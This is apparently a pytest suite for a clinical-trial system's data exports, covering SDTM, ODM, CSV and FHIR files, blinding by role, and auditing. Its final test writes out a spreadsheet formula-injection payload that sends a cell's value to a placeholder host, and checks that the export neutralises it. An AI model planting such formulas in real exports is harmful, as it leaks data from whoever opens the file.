"""Exports built from a small ASSIST trial entered through the real services (tests/exports/conftest.py)."""

from __future__ import annotations

import hashlib
import io
import json
import zipfile
from datetime import timedelta

import pandas as pd
import pyreadstat
import pytest
from exports_checks import arm_mentions, members
from exports_world import AE, ENROLLED, NOW, SCREEN_FAILED

from trialkit.server.audit.models import AuditEvent
from trialkit.server.exports import services
from trialkit.server.jobs.models import Job

pytestmark = pytest.mark.django_db

SDTM = ("dm", "qs", "ft", "rs", "vs", "ae", "ds")
# The whole SDTM package of an unblinded export: each dataset as XPT and Dataset-JSON, and define.xml
# (a blinded one has no TA: trialkit.export.trial_design).
PACKAGE = (*SDTM, "sv", "ex", "cm", "mh", "lb", "supplb", "ts", "te", "ta", "tv", "ti")
PACKAGE_FILES = ("sdtm/define.xml", *(f"sdtm/{d}.{ext}" for d in PACKAGE for ext in ("xpt", "json")))


def _unpack(job, tmp_path):
    target = tmp_path / f"unpacked-{job.pk}"
    with zipfile.ZipFile(job.result_path) as archive:
        archive.extractall(target)
    return target


def _slot_arms(world):
    from trialkit.server.allocation.services import allocation_list_rows

    return {
        s.participant.participant_number: s.arm_id
        for s in allocation_list_rows(world["trial"], world["dsmb"])
        if s.participant
    }


def test_an_unblinded_export_holds_odm_sdtm_csv_and_a_manifest(world, tmp_path):
    """ODM validated against the ODM 1.3.2 XSD shipped by odmlib (CDISC); XPT read back with pyreadstat.

    Expected rows, counted from the world: QS = 15 NIHSS items x 5 complete NIHSS forms (4 baseline,
    1 day 7) = 75; RS = 4 mRS (a clinical classification in CDISC CT); FT = 0 (no MMSE entered);
    VS = 4 baseline vital-sign forms x 4 numeric items entered = 16; AE = 2 complete, not deleted;
    DS = 0 (everyone is still in follow-up)."""
    from odmlib.odm_parser import ODMSchemaValidator

    from trialkit.analysis.trial_data import load_trial_data

    job = services.create_export(world["trial"], world["dsmb"], unblinded=True, now=NOW)
    assert (job.status, job.progress, job.unblinded) == ("done", 100, True)
    unpacked = _unpack(job, tmp_path)
    assert sorted(p.relative_to(unpacked).as_posix() for p in unpacked.rglob("*") if p.is_file()) == sorted(
        [
            "odm.xml",
            "manifest.json",
            *PACKAGE_FILES,
            *(f"data/{t}.csv" for t in ("participants", "outcomes", "adverse_events", "screening", "dictionary")),
            "fhir/bundle.json",
        ]
    )
    # The unblinded FHIR Bundle: one ResearchSubject per enrolled participant, each with its arm.
    bundle = json.loads((unpacked / "fhir" / "bundle.json").read_text(encoding="utf-8"))
    subjects = [e["resource"] for e in bundle["entry"] if e["resource"]["resourceType"] == "ResearchSubject"]
    arm_ids = {arm.id for arm in world["trial"].protocol.arms}
    assert len(subjects) == ENROLLED and all(s["assignedArm"] in arm_ids for s in subjects)

    ODMSchemaValidator(standard="odm", version="1.3.2").validate_file(str(unpacked / "odm.xml"))
    odm = (unpacked / "odm.xml").read_text()
    assert odm.count("<SubjectData ") == ENROLLED
    # 12 baseline forms + 1 complete day-7 NIHSS + the NIHSS and labs each participant's screening
    # record carries complete into the Screening visit (4 × 2)
    assert odm.count("<FormData ") == 13 + CARRIED_COMPLETE

    rows = {}
    for domain in SDTM:
        frame, _meta = pyreadstat.read_xport(str(unpacked / "sdtm" / f"{domain}.xpt"))
        rows[domain] = len(frame)
        if domain == "dm":
            dm = frame
    assert rows == {"dm": ENROLLED, "qs": 75 + ENROLLED * 15, "ft": 0, "rs": 4, "vs": 16, "ae": 2, "ds": 0}
    arms = _slot_arms(world)
    protocol_arms = {a.id.upper().replace("-", ""): a.id for a in world["trial"].protocol.arms}
    assert {r.SUBJID: protocol_arms[r.ARMCD] for r in dm.itertuples()} == arms
    assert set(dm.SEX) == {"M", "F"} and set(dm.RFSTDTC) == {
        "2025-03-10",
        "2025-03-18",
    }  # sentinels, then the rest after the wait

    # EX from each dose record (70 kg, 1 ml/kg final volume in both arms), its dose by the arm
    # (protocols/NCT04590118.yaml: placebo 1 ml/kg; it-hMSC 0.5, 1 or 2 ×10^6 cells/kg).
    ex, _ = pyreadstat.read_xport(str(unpacked / "sdtm" / "ex.xpt"))
    assert len(ex) == ENROLLED and set(ex.EXVAMT) == {70.0} and set(ex.EXROUTE) == {"INTRAVENOUS"}
    for r in ex.itertuples():
        if arms[r.USUBJID.removeprefix("NCT04590118-")] == "placebo":
            assert (r.EXTRT, r.EXDOSE, r.EXDOSU) == ("PLACEBO", 1.0, "mL/kg")
        else:
            assert r.EXTRT == "IT-HMSC" and r.EXDOSU == "cells/kg" and r.EXDOSE in {5e5, 1e6, 2e6}
    # LB: the 9 screening labs of each participant (exports_world.ELIGIBLE), once although the
    # Screening visit's labs form carries them too; ×ULN in SUPPLB for the 5 with a ULN.
    lb, _ = pyreadstat.read_xport(str(unpacked / "sdtm" / "lb.xpt"))
    supplb, _ = pyreadstat.read_xport(str(unpacked / "sdtm" / "supplb.xpt"))
    assert len(lb) == ENROLLED * 9 and len(supplb) == ENROLLED * 5
    creat = lb[lb.LBTESTCD == "CREAT"].iloc[0]
    assert (creat.LBORRES, creat.LBORRESU, creat.LBORNRHI, creat.LBSTRESU) == ("84", "umol/L", "97", "mg/dL")
    assert pytest.approx(84 / 88.4) == creat.LBSTRESN and pytest.approx(97 / 88.4) == creat.LBSTNRHI
    assert set(supplb[str(int(creat.LBSEQ)) == supplb.IDVARVAL].QVAL) == {f"{84 / 97:.4g}"}

    data = load_trial_data(unpacked / "data")
    assert dict(zip(data.participants.participant_id, data.participants.arm)) == arms
    assert len(data.outcomes) == 9 + ENROLLED and len(data.adverse_events) == 2  # + each screening NIHSS
    wide = pd.read_csv(unpacked / "data" / "outcomes.csv", dtype={"participant_id": str})
    assert len(wide) == ENROLLED and dict(zip(wide.participant_id, wide.arm)) == arms
    assert list(data.screening.outcome).count("screen_failed") == SCREEN_FAILED
    assert set(data.participants.baseline_nihss) == {9}

    manifest = json.loads((unpacked / "manifest.json").read_text())
    assert manifest["blinding"] == "unblinded" and manifest["requested_by"] == "dora"
    for entry in manifest["files"]:
        assert hashlib.sha256((unpacked / entry["path"]).read_bytes()).hexdigest() == entry["sha256"]
    # odm.xml, the SDTM package, 4 CSV tables and the dictionary, the FHIR Bundle
    assert len(manifest["files"]) == 1 + len(PACKAGE_FILES) + 5 + 1
    with open(job.result_path, "rb") as zipped:
        assert hashlib.sha256(zipped.read()).hexdigest() == job.sha256
    assert arm_mentions(members(job.result_path), world["trial"].protocol)  # the detector sees arms


# Carried from each screening record into the Screening visit (trialkit.server.capture.screening_forms):
# the NIHSS and labs complete; demographics, stroke history, conditions and medicines as drafts
# (the screening form does not ask every item they require).
CARRIED_COMPLETE = ENROLLED * 2
CARRIED_DRAFT = ENROLLED * 4


def test_nothing_is_silently_dropped(world):
    job = services.create_export(world["trial"], world["dsmb"], unblinded=False, now=NOW)
    assert job.manifest["counts"]["forms"] == 13 + CARRIED_COMPLETE and job.manifest["counts"]["adverse_events"] == 2
    assert {(e["what"], e["count"], e["why"].split(" ")[0]) for e in job.manifest["excluded"]} == {
        ("forms", 1, "deleted"),
        ("forms", 1 + CARRIED_DRAFT, "draft"),
        ("adverse_events", 1, "deleted"),
        ("adverse_events", 1, "draft"),
    }


def test_drafts_are_included_on_request_and_flagged(world):
    job = services.create_export(world["trial"], world["dsmb"], include_drafts=True, now=NOW)
    counts = job.manifest["counts"]
    assert (counts["forms"], counts["forms_draft_included"], counts["adverse_events"]) == (
        14 + CARRIED_COMPLETE + CARRIED_DRAFT,
        1 + CARRIED_DRAFT,
        3,
    )
    assert [e["why"].split(" ")[0] for e in job.manifest["excluded"]] == ["deleted", "deleted"]
    data = services.export_data(world["trial"], world["dsmb"], unblinded=False, include_drafts=True)
    assert [f.status for f in data.forms].count("draft") == 1 + CARRIED_DRAFT


@pytest.mark.parametrize("role", ["data_manager", "sponsor_admin", "monitor", "dsmb_statistician"])
def test_a_blinded_export_names_no_arm_in_any_file(world, make_user, role):
    user = make_user(role, world["trial"])
    job = services.create_export(world["trial"], user, now=NOW)
    assert job.status == "done" and not job.unblinded
    files = members(job.result_path)
    assert arm_mentions(files, world["trial"].protocol) == []
    assert arm_mentions({"manifest (job row)": json.dumps(job.manifest).encode()}, world["trial"].protocol) == []
    # A blinded extract has no arm column at all (docs/analysis.md), in neither table.
    for table in ("participants", "outcomes"):
        assert "arm" not in pd.read_csv(io.BytesIO(files[f"data/{table}.csv"]), dtype=str).columns
    assert all(s.arm_id is None for s in services.export_data(world["trial"], user, unblinded=False).subjects)
    assert job.result_path.endswith("-blinded.zip")


@pytest.mark.parametrize("role", ["data_manager", "sponsor_admin", "monitor"])
def test_a_blinded_role_cannot_ask_for_unblinded_and_nothing_is_written(world, make_user, role):
    user = make_user(role, world["trial"])
    events = AuditEvent.objects.count()
    with pytest.raises(services.ExportDenied, match="blinded"):
        services.create_export(world["trial"], user, unblinded=True, now=NOW)
    with pytest.raises(services.ExportDenied):
        services.export_data(world["trial"], user, unblinded=True)
    assert Job.objects.filter(kind="export").count() == 0 and AuditEvent.objects.count() == events


@pytest.mark.parametrize("role", ["coordinator", "investigator", "blinded_assessor", "unblinded_pharmacist"])
def test_site_staff_and_the_pharmacist_export_nothing(world, make_user, role):
    user = make_user(role, world["trial"], world["site"])
    for unblinded in (False, True):
        with pytest.raises(services.ExportDenied):
            services.create_export(world["trial"], user, unblinded=unblinded, now=NOW)


def test_an_unknown_format_is_refused_by_name(world):
    with pytest.raises(services.ExportProblem, match="xlsx") as caught:
        services.create_export(world["trial"], world["dsmb"], formats=["odm", "xlsx"], now=NOW)
    assert caught.value.field == "formats"


def test_the_export_is_audited_and_restricted_when_unblinded(world, make_user):
    from trialkit.server.audit.service import verify_chain

    manager = make_user("data_manager", world["trial"])
    blinded = services.create_export(world["trial"], manager, formats=["csv"], now=NOW)
    unblinded = services.create_export(world["trial"], world["dsmb"], unblinded=True, formats=["odm"], now=NOW)
    events = list(AuditEvent.objects.filter(object_type="export").order_by("seq"))
    assert [(e.action, e.actor, e.object_id, e.restricted) for e in events] == [
        ("export_request", manager.username, str(blinded.pk), False),
        ("export_done", manager.username, str(blinded.pk), False),
        ("export_request", "dora", str(unblinded.pk), True),
        ("export_done", "dora", str(unblinded.pk), True),
    ]
    assert events[0].after == {"formats": ["csv"], "unblinded": False, "include_drafts": False, "role": "data_manager"}
    assert events[3].after["sha256"] == unblinded.sha256
    assert verify_chain()[1] is None


def test_only_the_chosen_formats_are_written(world):
    job = services.create_export(world["trial"], world["dsmb"], formats=["sdtm"], now=NOW)
    blinded = [f for f in PACKAGE_FILES if not f.startswith("sdtm/ta.")]  # no arms, no TA
    assert sorted(members(job.result_path)) == ["manifest.json", *sorted(blinded)]


def test_progress_only_moves_forward_to_done(world, monkeypatch):
    """Every step of a full export (ODM, each SDTM domain, the CSVs) raises the bar; none goes back."""
    from trialkit.server.jobs import runner

    seen = []
    real = runner.progress_writer

    def spying(job_id, attempt):
        write = real(job_id, attempt)
        return lambda percent, message: (seen.append(percent), write(percent, message))

    monkeypatch.setattr(runner, "progress_writer", spying)
    job = services.create_export(world["trial"], world["dsmb"], formats=["odm", "sdtm", "csv"], now=NOW)
    assert job.status == "done" and job.progress == 100
    assert len(seen) >= 5 and seen == sorted(set(seen)) and seen[-1] < 100


def test_ended_participations_reach_sdtm_ds_dated_and_the_analysis_tables(world, tmp_path):
    """DS (SDTMIG disposition): one record per ended participant, DSDECOD from the outcome and
    DSSTDTC the day participation ended; those in follow-up have none. The analysis table's
    status (docs/analysis.md: completed, withdrawn, lost) matches the report's own extract."""
    from trialkit.analysis.trial_data import analysis_tables
    from trialkit.server.capture.services import end_participation
    from trialkit.server.exports.extract import select

    first, second, third = world["participants"][:3]
    later = NOW + timedelta(days=20)
    end_participation(
        first,
        world["coordinator"],
        outcome="withdrawn",
        ended_on="2025-03-21",
        reason="Withdrew consent to further visits",
        now=later,
    )
    end_participation(
        second, world["investigator"], outcome="died", ended_on="2025-03-25", reason="Fatal recurrent stroke", now=later
    )
    end_participation(
        third,
        world["coordinator"],
        outcome="lost_to_follow_up",
        ended_on="2025-03-28",
        reason="No contact after the day 7 visit",
        now=later,
    )
    job = services.create_export(world["trial"], world["dsmb"], formats=["sdtm", "csv"], now=later)
    ds, _meta = pyreadstat.read_xport(str(_unpack(job, tmp_path) / "sdtm" / "ds.xpt"))
    assert sorted(zip(ds.USUBJID, ds.DSDECOD, ds.DSSTDTC)) == sorted(
        [
            (f"NCT04590118-{first.participant_number}", "WITHDRAWAL BY SUBJECT", "2025-03-21"),
            (f"NCT04590118-{second.participant_number}", "DEATH", "2025-03-25"),
            (f"NCT04590118-{third.participant_number}", "LOST TO FOLLOW-UP", "2025-03-28"),
        ]
    )
    table = pd.read_csv(io.BytesIO(members(job.result_path)["data/participants.csv"]), dtype=str)
    exported = dict(zip(table.participant_id, table.status))
    assert exported == {
        first.participant_number: "withdrawn",
        second.participant_number: "completed",
        third.participant_number: "lost",
        world["participants"][3].participant_number: "ongoing",
    }
    tables = analysis_tables(select(world["trial"], arms=None), world["trial"].protocol, unblinded=False)
    assert dict(zip(tables["participants"].participant_id, tables["participants"].status)) == exported


def test_free_text_a_spreadsheet_would_run_is_exported_inert(world, make_user):
    """An adverse-event term typed as a formula reaches the CSV as text (leading quote), never as a
    formula; numbers, negative ones included, are left as numbers."""
    from trialkit.server.capture import services as capture

    first = world["participants"][0]
    formula = '=HYPERLINK("http://example.invalid/?"&A1,"Headache")'
    capture.save_adverse_event(first, {**AE, "term": formula}, world["coordinator"], complete=True, now=NOW)
    job = services.create_export(world["trial"], make_user("data_manager", world["trial"]), formats=["csv"], now=NOW)
    text = members(job.result_path)["data/adverse_events.csv"].decode()
    terms = pd.read_csv(io.StringIO(text), dtype=str)["term"].tolist()
    assert "'" + formula in terms and formula not in terms
    assert not any(line.startswith(("=", "+", "@")) or ",=" in line or ",+" in line for line in text.splitlines())
